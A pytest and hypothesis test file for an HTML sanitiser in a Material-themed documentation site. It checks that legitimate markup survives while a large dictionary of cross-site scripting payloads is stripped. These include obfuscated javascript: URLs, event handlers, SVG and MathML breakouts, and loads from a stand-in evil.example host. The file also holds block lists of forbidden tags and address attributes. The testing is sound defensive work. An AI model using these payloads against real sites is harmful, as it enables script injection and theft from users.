"""What strangers write is reduced to harmless markup; the markup that Material needs is kept."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from kb.publish.sanitize import clean
from rendering import render

# None of these may ever leave the sanitiser, whatever its own lists say.
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "button", "textarea", "select",
    "option", "link", "meta", "base", "template", "noscript", "video", "audio", "source", "track", "canvas",
    "dialog", "marquee", "math", "use", "image", "animate", "set", "foreignobject", "title", "body", "html", "head",
    "slot", "portal", "map", "area", "frameset", "xmp", "plaintext",
}  # fmt: skip
ADDRESSES = {
    "href", "src", "srcset", "action", "formaction", "data", "poster", "background", "cite", "ping", "xlink:href",
    "codebase",
}  # fmt: skip
PAGE = "https://site.example/tools/a.html"


class Reader(HTMLParser):
    """Records every element and its attributes, decoded as in a browser."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment is left: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def as_a_browser_resolves(address: str) -> str:
    """Make an address absolute as browsers do: they skip control characters and turn backslashes into slashes."""
    trimmed = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", address).replace("\\", "/")
    return urljoin(PAGE, trimmed)


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).elements:
        assert tag.lower() not in FORBIDDEN_TAGS
        if tag == "input":
            assert attributes["type"] in ("checkbox", "radio")
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ADDRESSES - {"href", "src"}
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center|justify|start|end);?", value)
            if name == "src":
                where = urlsplit(as_a_browser_resolves(value))
                assert (where.scheme, where.netloc) == ("https", "site.example")
            if name == "href":
                assert urlsplit(as_a_browser_resolves(value)).scheme in ("http", "https", "mailto", "tel")
            if name == "id":
                assert not value.startswith("kb-")
            if name == "class":
                assert not any(part.startswith("kb-") for part in value.split())


# ---- hostile

TAB, NEWLINE = "\t", "\n"
HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals with a space": "<ScRiPt >alert(1)</sCrIpT >",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script that is never closed": "<script src=//evil.example/x",
    "a script behind NULs": "\x00<scr\x00ipt>alert(1)</script>",
    "an event handler": "<img src=x.png onerror=alert(1)>",
    "an event handler after a slash": "<img/src=x.png/onerror=alert(1)>",
    "an event handler on details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "an event handler on svg": "<svg onload=alert(1)><path d='M0 0'/></svg>",
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript with an entity": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript with numeric entities": '<a href="&#106;avascript&#0000058alert(1)">x</a>',
    "javascript with a tab": f'<a href="java{TAB}script:alert(1)">x</a>',
    "javascript with a newline": f'<a href="java{NEWLINE}script:alert(1)">x</a>',
    "javascript with an encoded tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript after a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "vbscript with entities and tabs": '<a href="&#118;b&#9;script&Tab;:msgbox(1)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data in a picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "file": '<a href="file:///etc/passwd">x</a>',
    "a style sheet": "<style>*{background:url(//evil.example)}</style>",
    "a style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    "a style beside an alignment": '<table><td style="text-align:center;background:url(//evil.example)">x</td></table>',
    "a linked style sheet": '<link rel="stylesheet" href="//evil.example/x.css">',
    "an import in svg": "<svg><style>@import '//evil.example/x.css'</style></svg>",
    "an iframe": '<iframe src="//evil.example"></iframe>',
    "an iframe with its own document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="//evil.example"><param name=a value=b></object>',
    "an embed": '<embed src="//evil.example">',
    "a form": '<form action="//evil.example"><input name="password" type="password"><button>go</button></form>',
    "a field without a form": "<input><input type=text><input type=image src=//evil.example/x><textarea>x</textarea>",
    "a button that acts": '<button formaction="javascript:alert(1)">x</button>',
    "a script in svg": "<svg><script>alert(1)</script></svg>",
    "use in svg": '<svg><use href="//evil.example/x.svg#a"/><use xlink:href="#b"/></svg>',
    "foreignObject in svg": '<svg><foreignObject><iframe src="//evil.example"></iframe></foreignObject></svg>',
    "an animated href in svg": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>x</a></svg>',
    "set in svg": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "a picture in svg": '<svg><image href="//evil.example/x.png"/></svg>',
    "a link in svg": '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "a picture in the description of svg": "<svg><desc><img src=//evil.example/x.png></desc></svg>",
    "svg that breaks out by a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math": '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "math that breaks out": "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img onerror=1&gt;'>",
    "a picture without a scheme": "<img src=//evil.example/x.png>",
    "a picture with a scheme": "<img src=https://evil.example/x.png>",
    "a picture by backslashes": r"<img src=\\evil.example\x.png>",
    "a picture by a slash and a backslash": r"<img src=/\evil.example/x.png>",
    "a picture with spaces before it": "<img src='  //evil.example/x.png'>",
    "a picture with a tab between the slashes": "<img src='/&#9;/evil.example/x.png'>",
    "a picture with a newline between the slashes": f"<img src='/{NEWLINE}/evil.example/x.png'>",
    "a picture behind a control character": "<img src='&#1;//evil.example/x.png'>",
    "a picture whose scheme is broken up": f"<img src='ht{TAB}tps://evil.example/x.png'>",
    "a picture under an old name": "<image src=//evil.example/x.png>",
    "a set of pictures": '<img src=x.png srcset="//evil.example/x.png 2x">',
    "media": '<video src=x poster=y autoplay><source src="//evil.example/x"></video><audio src=x></audio>',
    "a base": '<base href="//evil.example/">',
    "a redirect": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "an id of the frame": '<p id="kb-main">x</p>',
    "classes of the frame": '<p class="mine kb-hidden yours">x</p>',
    "classes parted by a tab": "<p class='mine&#9;kb-hidden'>x</p>",
    "a comment": "<!-- <script>alert(1)</script> -->",
    "a conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "a processing instruction": "<?php echo 1 ?>",
    "noscript that swallows a quote": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "a template": "<template><script>alert(1)</script></template>",
    "plain text": "<plaintext><script>alert(1)</script>",
    "markup in a quoted title": "<input type=checkbox title='><img src=x onerror=alert(1)>'><input title='><script>'>",
    "a new window": '<a href="x.html" target="_blank" ping="//evil.example">x</a>',
    "a title that ends early": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_is_made_harmless(html: str) -> None:
    assert_harmless(clean(html))
    assert_harmless(clean(f"<p>before</p>\n{html}\n<p>after</p>"))


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_is_made_harmless_also_when_it_comes_through_markdown(html: str) -> None:
    assert_harmless(clean(render(f"before\n\n{html}\n\nafter {html} after\n\n- {html}\n")))


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ("<script>alert(1)</script>x", "x"),
        ("<style>p{}</style>x", "x"),
        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<p class="mine kb-hidden yours">x</p>', '<p class="mine yours">x</p>'),
        ('<p id="kb-main" class="kb-a">x</p>', "<p>x</p>"),
        ("<img src=//evil.example/x.png alt=cat>", '<img alt="cat">'),
        ("<iframe src=x>y</iframe>", "y"),
        ("<input type=text name=a>", ""),
    ],
)
def test_only_what_is_hostile_goes_and_what_is_around_it_stays(html: str, left: str) -> None:
    assert clean(html) == left


def test_markup_that_is_shown_as_text_stays_text() -> None:
    assert clean("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_an_attribute_that_holds_markup_stays_an_attribute() -> None:
    assert Reader(clean("<p title='><img src=x onerror=alert(1)>'>x</p>")).elements == [
        ("p", {"title": "><img src=x onerror=alert(1)>"})
    ]


# ---- Material's markup


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Return the elements with their attributes; alignments are written in one form."""
    found = Reader(html).elements
    for _, attributes in found:
        if "style" in attributes:
            attributes["style"] = re.sub(r"[\s;]", "", attributes["style"])
    return [(tag, attributes) for tag, attributes in found if tag != "tbody"]


MATERIAL = {
    "headings with ids and classes": "# A\n\n## שלום {#b .wide}\n\n### C",
    "admonitions": '!!! note "Title"\n    text\n\n!!! warning\n    text\n\n!!! tip ""\n    text',
    "details": '??? tip "Title"\n    text\n\n???+ note\n    open',
    "tabs": '=== "One"\n    text\n\n    more\n\n=== "Two"\n    text',
    "task lists": "- [x] done\n- [ ] to do\n    - [x] inside",
    "footnotes": "text[^1] and [^long]\n\n[^1]: note\n[^long]: another\n\n    with a paragraph",
    "highlighted code": '```python hl_lines="1"\nx = {"a": 1}  # שלום\n```',
    "code with numbered lines": '```yaml linenums="1"\na: 1\nb: 2\n```',
    "code with a title": '``` py title="a.py"\nx = 1\n```',
    "tables with alignment": "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
    "definitions": "term\n:   what it is\n:   and more",
    "abbreviations": "HTML is here.\n\n*[HTML]: Hypertext",
    "pictures": '![a cat](cat.png "Title"){ width="30" loading="lazy" }',
    "links": "[a](b.md) [c](https://example.org/x?a=b&c) [d](mailto:a@example.org) [e](tel:+123) [f](#g)",
    "lists that begin later": "3. three\n4. four",
    "quotations and rules": "> quoted\n\n---\n\n**bold** *soft* `code` ~~x~~",
    "small marks": "<kbd>Ctrl</kbd> <mark>m</mark> H<sub>2</sub>O x<sup>2</sup> <ins>i</ins> <del>d</del> <bdi>b</bdi>",
    "text in another language": '<p lang="ar" dir="rtl">مرحبا</p>',
    "figures": '<figure><img src="a.png" alt="a"><figcaption>A cat</figcaption></figure>',
    "an icon": '<i class="i"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><path d="M0 0h2"/></svg></i>',
}


@pytest.mark.parametrize("text", MATERIAL.values(), ids=MATERIAL)
def test_survives_with_all_its_elements_attributes_and_text(text: str) -> None:
    html = render(text)
    assert elements(clean(html)) == elements(html)
    assert Reader(clean(html)).text == Reader(html).text
    assert_harmless(clean(html))


def test_the_markdown_for_tabs_task_lists_and_numbered_code_renders_to_what_these_tests_mean() -> None:
    assert 'type="radio"' in render(MATERIAL["tabs"])
    assert 'type="checkbox"' in render(MATERIAL["task lists"])
    assert "linenos" in render(MATERIAL["code with numbered lines"])
    assert "text-align:center" in render(MATERIAL["tables with alignment"])


def test_addresses_outside_are_linked_without_a_relation_of_our_own() -> None:
    assert clean('<a href="https://example.org">x</a>') == '<a href="https://example.org">x</a>'


# ---- whatever the text

TAGS = [
    "p", "div", "svg", "math", "style", "script", "title", "textarea", "table", "td", "select", "noscript", "template",
    "xmp", "desc", "mi", "mtext", "mglyph", "annotation-xml encoding='text/html'",
]  # fmt: skip
SHARDS = st.sampled_from([
    *"<>/=\"'&; \t\n\x00א", "&lt;", "&#9;", "<!--", "-->", "<![CDATA[", "]]>", *(f"<{tag}>" for tag in TAGS),
    *(f"</{tag}>" for tag in TAGS), "<img src=", "<a href=", "<input type=", "<p style=", "<p class='", "<p id='",
    "kb-x ", "checkbox", "javascript:", "//e/", "<path d='", "onerror=x ", "\\\\e",
])  # fmt: skip
HTML = st.text() | st.lists(SHARDS, max_size=30).map("".join) | st.sampled_from(list(HOSTILE.values()))


@settings(max_examples=300)
@example("<p><select><p>")
@given(st.lists(HTML, min_size=1, max_size=3).map("".join))
def test_whatever_the_text_it_comes_out_harmless_and_a_second_time_unchanged(html: str) -> None:
    once = clean(html)
    assert_harmless(once)
    assert clean(once) == once


@pytest.mark.parametrize(
    "html",
    [
        '<ol reversed="" type="a"><li value="5">a</li></ol>',
        '<p align="center">a</p>',
        '<h2 align="right">a</h2>',
        '<div align="left">a</div>',
        '<img src="a.png" align="right">',
        '<table><tbody><tr><td align="center" valign="top" width="30%">a</td></tr></tbody></table>',
    ],
)
def test_numbers_of_lists_and_the_side_of_a_text_are_kept_as_on_github(html: str) -> None:
    assert clean(html) == html


@pytest.mark.parametrize(
    "html", ['<ol type="x"></ol>', '<li value="a"></li>', '<p align="1"></p>', '<p valign="top"></p>']
)
def test_of_these_only_what_means_something_is_kept(html: str) -> None:
    assert "=" not in clean(html)


@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ("## A {#x}\n\n<div id=x>b</div>\n\nc <b id=x>d</b>", [("h2", "x")]),
        ("<div id=x>b</div>\n\n## A {#x}", [("h2", "x")]),
        ("<h2 id=x>a</h2>\n\n<h3 id=x>b</h3>", [("h2", "x")]),
        ("<b id=x>a</b> <b id=x>b</b>", [("b", "x")]),
        ("## A {#x}\n\n## B {#x}\n\nc\n{#x}", [("h2", "x"), ("h2", "x_1"), ("p", "x_2")]),
    ],
)
def test_an_id_stands_once_on_a_heading_where_one_has_it(text: str, ids: list[tuple[str, str]]) -> None:
    found = Reader(clean(render(text))).elements
    assert [(tag, attributes["id"]) for tag, attributes in found if "id" in attributes] == ids
